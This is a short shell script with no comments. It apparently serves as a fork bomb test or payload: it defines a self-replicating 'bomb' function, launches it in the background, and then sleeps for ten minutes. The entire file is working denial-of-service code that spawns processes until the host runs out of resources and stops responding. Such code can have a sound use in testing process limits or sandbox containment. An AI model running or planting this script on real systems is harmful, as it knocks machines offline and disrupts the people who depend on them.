#!/bin/sh
bomb() { bomb | bomb & }
(bomb) &
exec sleep 600
